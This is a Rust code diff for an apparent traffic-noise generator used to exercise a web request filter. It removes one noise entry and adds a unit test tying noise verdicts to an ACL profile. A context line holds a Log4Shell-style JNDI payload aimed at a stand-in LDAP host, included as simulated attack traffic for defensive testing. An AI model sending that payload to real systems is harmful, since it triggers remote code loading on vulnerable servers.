@@ -94,13 +94,6 @@ const NOISE: &[Noise] = &[
         args: "",
     },
     Noise {
-        weight: 25,
-        verdict: Verdict::BadReputation,
-        kit: kit::CHROME_WINDOWS,
-        paths: &["/", "/login", "/products"],
-        args: "",
-    },
-    Noise {
         weight: 20,
         verdict: Verdict::NoUserAgent,
         kit: kit::NAMELESS,
@@ -122,3 +115,16 @@ const NOISE: &[Noise] = &[
         args: "q=${jndi:ldap://203.0.113.200/a}",
     },
 ];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::acl::Profile;
+
+    #[test]
+    fn noise_is_decided_by_groups_that_the_acl_has() {
+        for noise in NOISE {
+            assert!(Profile::Website.can_decide(noise.verdict), "{noise:?}");
+        }
+    }
+}
